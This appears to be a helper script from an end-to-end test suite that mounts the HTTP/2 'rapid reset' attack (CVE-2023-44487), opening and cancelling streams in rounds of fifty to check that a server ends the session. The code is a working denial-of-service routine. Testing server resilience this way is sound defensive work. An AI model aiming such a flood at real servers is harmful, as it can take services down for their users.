// Run inside a namespace (test/e2e/http2.test.ts): an HTTP/2 client that opens streams and
// resets each at once (CVE-2023-44487) until the server ends its session. Prints one JSON line:
// the GOAWAY code it got (or null), how many streams it opened, and whether the session closed.
import http2, { constants } from 'node:http2';
import { readFileSync } from 'node:fs';

interface Spec {
  readonly url: string;
  readonly ca: string;
  readonly servername: string;
  readonly count: number;
}

const spec = JSON.parse(process.argv[2] ?? '{}') as Spec;
const session = http2.connect(spec.url, { ca: readFileSync(spec.ca), servername: spec.servername });
let goaway: number | null = null;
let opened = 0;
let error: string | undefined;
session.on('error', (err: Error) => (error = err.message));
session.on('goaway', (code: number) => (goaway = code));
const done = (closed: boolean) => {
  process.stdout.write(`${JSON.stringify({ goaway, opened, closed, error })}\n`);
  process.exit(0);
};
session.on('close', () => done(true));
// Held (not unref'd): the script always reports, even when nothing else keeps it alive.
setTimeout(() => done(false), 20_000);
// In rounds of 50 (under the server's concurrency limit), each reset once its HEADERS have
// left: a client's HTTP/2 stack sends nothing for a stream reset before it was sent.
// The classic pattern (CVE-2023-44487): each stream's HEADERS is followed at once by its
// RST_STREAM, before any answer could come back, fifty at a time.
const round = () => {
  for (let i = 0; i < 50 && opened < spec.count; i++) {
    if (session.closed || session.destroyed) return;
    try {
      const stream = session.request({ ':path': '/notes?limit=1' });
      stream.on('error', () => {});
      stream.close(constants.NGHTTP2_CANCEL);
      opened++;
    } catch {
      return;
    }
  }
  if (opened < spec.count) setTimeout(round, 1);
};
session.once('remoteSettings', round);
